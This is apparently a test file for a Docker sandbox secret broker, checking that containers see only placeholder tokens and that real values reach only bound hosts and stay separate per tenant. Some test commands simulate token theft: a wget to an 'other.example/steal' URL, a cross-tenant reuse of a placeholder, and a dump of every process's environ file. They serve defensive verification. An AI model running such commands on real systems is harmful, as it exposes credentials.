// DockerSandbox's `secrets`, and a Workspace whose per-tenant DockerSandboxes each have their
// own: the container sees placeholders, and the egress proxy on the host puts each sandbox's
// own real values in its requests to the bound hosts. The test image has busybox only, whose
// wget sends an https URL to the proxy as a plain request for the proxy to make over TLS.
// Judged by what the servers on the host's loopback received (https-fixture.mjs).
import { RequestContext } from '@mastra/core/request-context'
import { afterAll, expect, it } from 'vitest'
import { DockerSandbox, SandboxOptionError, Workspace } from '../lib/index.js'
import { describeDocker, dockerEngines, removeLabelled } from './docker-engine.mjs'
import { on } from './docker-sandboxes.mjs'
import { boundTo, brokerOptions, headerValues, recordsWith, tokenLike, useBrokerServers } from './https-fixture.mjs'

const RUN = `docker-secrets-${process.pid}`
const servers = useBrokerServers(Boolean(dockerEngines))
const { received, connections, origin, accept, reset } = servers

/** busybox wget of `url` with the placeholder of `variable` in `Authorization`. */
const wget = (url, variable = 'GITHUB_TOKEN') => `wget -q -O - --header "Authorization: Bearer $${variable}" "${url}"`

it('refuses a secret bound to a domain allowedDomains does not allow, naming both, and never the value', () => {
  const value = tokenLike('ghp_')
  const make = () =>
    new DockerSandbox({ dockerOptions: { socketPath: '/nonexistent/docker.sock' }, allowedDomains: ['github.com'], secrets: { GITHUB_TOKEN: { value, domains: ['api.github.com'] } } })
  expect(make).toThrow(SandboxOptionError)
  expect(make).toThrow(/secrets.*GITHUB_TOKEN.*api\.github\.com.*allowedDomains|allowedDomains.*api\.github\.com.*GITHUB_TOKEN/)
  expect(make).toThrow(expect.not.objectContaining({ message: expect.stringContaining(value) }))
})

// The sandbox's CA certificate is bound into the container from this host, so an engine
// elsewhere (the TCP one stands for it) is refused at once, with the reason.
describeDocker('DockerSandbox secrets on the remote engine', () => {
  it('are refused with a typed error naming the reason', () => {
    const { sandbox } = on('remote', RUN)
    const make = () => sandbox(brokerOptions(servers, { GITHUB_TOKEN: boundTo(servers, tokenLike('ghp_'), 'api.github.com') }))
    expect(make).toThrow(SandboxOptionError)
    expect(make).toThrow(/^secrets need a local Docker engine/)
  })
})

describeDocker('DockerSandbox secrets on the local engine', () => {
  const { engine, sandbox } = on('local', RUN)
  const real = tokenLike('ghp_')
  const brokered = (secrets) => sandbox(brokerOptions(servers, secrets))
  const github = () => ({ GITHUB_TOKEN: boundTo(servers, real, 'api.github.com', 'github.com') })

  afterAll(async () => {
    await removeLabelled(engine, RUN)
  })

  it('the container sees a placeholder and the sandbox CA; busybox wget brings the real value to the bound host only', async () => {
    reset()
    accept(real)
    const box = brokered(github())
    try {
      const fake = (await box.executeCommand('printf %s "$GITHUB_TOKEN"')).stdout
      expect(fake).toHaveLength(real.length)
      expect(fake).not.toBe(real)
      const ca = await box.executeCommand('for v in SSL_CERT_FILE NODE_EXTRA_CA_CERTS REQUESTS_CA_BUNDLE CURL_CA_BUNDLE GIT_SSL_CAINFO; do eval "f=\\$$v"; grep -c "BEGIN CERTIFICATE" "$f"; done')
      expect(ca.stdout).toMatch(/^([1-9]\d*\n){5}$/)
      const r = await box.executeCommand(`${wget(`${origin('api.github.com')}/protected/wget`)}; ${wget(`${origin('other.example')}/steal`)}`)
      expect(r.stdout).toBe('authorized by api.github.com\n')
      expect(received.map((q) => [q.name, q.scheme, q.target, headerValues(q, 'authorization')])).toEqual([['api.github.com', 'https', '/protected/wget', [`Bearer ${real}`]]])
      // Nothing of it inside: the environment of every process of the container.
      const inside = await box.executeCommand('cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline | tr "\\0" "\\n"')
      expect(inside.stdout).toContain(`GITHUB_TOKEN=${fake}`)
      expect(inside.stdout).not.toContain(real)
    } finally {
      await box.destroy()
    }
  })

  it('plain HTTP with a placeholder gets a 403 naming the variable, to the bound host and another; neither server is reached', async () => {
    reset()
    accept(real)
    const box = brokered(github())
    try {
      const r = await box.executeCommand(`${wget(`${origin('api.github.com', 'http')}/plain`)}; ${wget(`${origin('other.example', 'http')}/plain`)}`)
      expect(r.stderr).toMatch(/^native-workspace: blocked by [\w.]*secrets: .*GITHUB_TOKEN/m)
      expect(r.stderr).not.toContain(real)
      expect(connections['api.github.com'].http + connections['other.example'].http).toBe(0)
      expect(recordsWith(received, real)).toEqual([])
    } finally {
      await box.destroy()
    }
  })

  it('setSecrets rotates the value on the running container', async () => {
    reset()
    const rotated = tokenLike('ghp_')
    accept(real, rotated)
    const box = brokered(github())
    try {
      expect((await box.executeCommand(wget(`${origin('api.github.com')}/protected/before`))).stdout).toBe('authorized by api.github.com\n')
      await box.setSecrets({ GITHUB_TOKEN: boundTo(servers, rotated, 'api.github.com') })
      expect((await box.executeCommand(wget(`${origin('api.github.com')}/protected/after`))).stdout).toBe('authorized by api.github.com\n')
      expect(received.map((q) => [q.target, headerValues(q, 'authorization')])).toEqual([
        ['/protected/before', [`Bearer ${real}`]],
        ['/protected/after', [`Bearer ${rotated}`]],
      ])
    } finally {
      await box.destroy()
    }
  })

  it("a Workspace's per-tenant sandboxes each bring their own value; one tenant's placeholder is worthless in another's", async () => {
    reset()
    const values = { alice: tokenLike('ghp_'), bob: tokenLike('ghp_') }
    accept(values.alice, values.bob)
    const made = []
    const workspace = new Workspace({
      sandbox: ({ requestContext }) => {
        const box = brokered({ GITHUB_TOKEN: boundTo(servers, values[requestContext.get('tenant')], 'api.github.com') })
        made.push(box)
        return box
      },
      sandboxCacheKey: ({ requestContext }) => requestContext.get('tenant'),
    })
    const tenant = (name) => {
      const context = new RequestContext()
      context.set('tenant', name)
      return workspace.resolveSandbox({ requestContext: context })
    }
    try {
      const [alice, bob] = [await tenant('alice'), await tenant('bob')]
      expect(alice).not.toBe(bob)
      const alicePlaceholder = (await alice.executeCommand('printf %s "$GITHUB_TOKEN"')).stdout
      expect((await alice.executeCommand(wget(`${origin('api.github.com')}/protected/alice`))).stdout).toBe('authorized by api.github.com\n')
      expect((await bob.executeCommand(wget(`${origin('api.github.com')}/protected/bob`))).stdout).toBe('authorized by api.github.com\n')
      // Bob with Alice's placeholder.
      await bob.executeCommand(`wget -q -O - --header "Authorization: Bearer ${alicePlaceholder}" "${origin('api.github.com')}/protected/stolen"`)
      expect(received.filter((q) => q.target !== '/protected/stolen').map((q) => [q.target, headerValues(q, 'authorization')])).toEqual([
        ['/protected/alice', [`Bearer ${values.alice}`]],
        ['/protected/bob', [`Bearer ${values.bob}`]],
      ])
      expect(recordsWith(received.filter((q) => q.target === '/protected/stolen'), values.alice)).toEqual([])
      expect(recordsWith(received.filter((q) => q.target === '/protected/stolen'), values.bob)).toEqual([])
    } finally {
      await Promise.allSettled(made.map((box) => box.destroy()))
    }
  })
})
